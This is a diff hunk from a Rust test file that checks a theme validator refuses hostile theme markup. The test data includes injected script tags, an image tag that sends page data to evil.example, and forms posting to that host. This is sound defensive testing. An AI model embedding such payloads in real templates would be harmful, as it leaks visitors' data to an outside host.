@@ -234,7 +234,7 @@ fn all_broken_overrides_are_reported_together() {
 #[test]
 fn a_hostile_theme_is_refused_as_a_whole() {
     for (note, reason) in [
-        ("<script src=/x></script>", "<script> belongs into the head"),
+        ("<script src=/x></script>", "a page holds no <script> element"),
         ("<img src='https://evil.example/?q={{ page.who }}'>", "which is not a file of this theme"),
         ("<form action='https://evil.example'>", "a form must be opened with `form_open(action)`"),
         ("{{ form_open('https://evil.example') }}", "a form goes to a path on this host"),
